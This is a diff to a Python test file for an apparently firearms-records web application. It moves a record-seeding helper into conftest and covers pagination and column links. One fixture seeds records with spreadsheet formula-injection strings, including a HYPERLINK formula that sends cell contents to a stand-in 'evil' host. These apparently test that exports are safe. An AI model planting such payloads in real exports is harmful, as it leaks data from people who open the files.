@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
@@ -13,35 +12,27 @@ from openpyxl import load_workbook
 
 from armsbridge.audit.models import AuditEntry
 from armsbridge.db.session import make_sessionmaker, session_scope
-from armsbridge.records import service as records
-from principals import as_actor
 
-from .conftest import csrf_of, sign_in
+from .conftest import add_record, csrf_of, sign_in
 
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "@x"]
-
-
-def _add(node, record_type: str, **data: Any) -> int:
-    with session_scope(make_sessionmaker(node.app.state.engine)) as s:
-        jurisdiction = data.setdefault("jurisdiction", "XK")
-        made = records.create_record(
-            s, record_type=record_type, data=data, user=as_actor("seed", jurisdiction)
-        )
-        s.flush()
-        return made.id
 
 
 @pytest.fixture
 def firearms(node) -> dict[str, int]:
     """Firearms of both services: XK pistols and a revolver, an MK pistol."""
     ids = {
-        "glock": _add(node, "firearm", make="Glock", model="17", kind="pistol", calibre="9mm"),
-        "cz": _add(node, "firearm", make="CZ", model="75", kind="pistol", status="seized"),
-        "colt": _add(node, "firearm", make="Colt", model="Python", kind="revolver"),
-        "mk": _add(node, "firearm", jurisdiction="MK", make="Zastava", model="M57", kind="pistol"),
+        "glock": add_record(
+            node, "firearm", make="Glock", model="17", kind="pistol", calibre="9mm"
+        ),
+        "cz": add_record(node, "firearm", make="CZ", model="75", kind="pistol", status="seized"),
+        "colt": add_record(node, "firearm", make="Colt", model="Python", kind="revolver"),
+        "mk": add_record(
+            node, "firearm", jurisdiction="MK", make="Zastava", model="M57", kind="pistol"
+        ),
     }
     for n, text in enumerate(FORMULAS):
-        ids[f"formula{n}"] = _add(node, "firearm", make=text, model=f"F{n}", kind="rifle")
+        ids[f"formula{n}"] = add_record(node, "firearm", make=text, model=f"F{n}", kind="rifle")
     return ids
 
 
@@ -95,7 +86,7 @@ def test_chosen_columns_are_shown_and_kept_in_every_link(node, analyst, firearms
 
 def test_pagination_keeps_the_filter_in_the_url(node, analyst) -> None:
     for n in range(55):
-        _add(node, "firearm", make="Beretta", model=f"M{n}", kind="pistol")
+        add_record(node, "firearm", make="Beretta", model=f"M{n}", kind="pistol")
     first = analyst.get("/records/firearms", params={"kind": "pistol", "sort": "model"})
     nxt = re.search(r'href="(/records/firearms\?[^"]*page=2[^"]*)"', first.text)
     assert nxt, "no link to page 2"
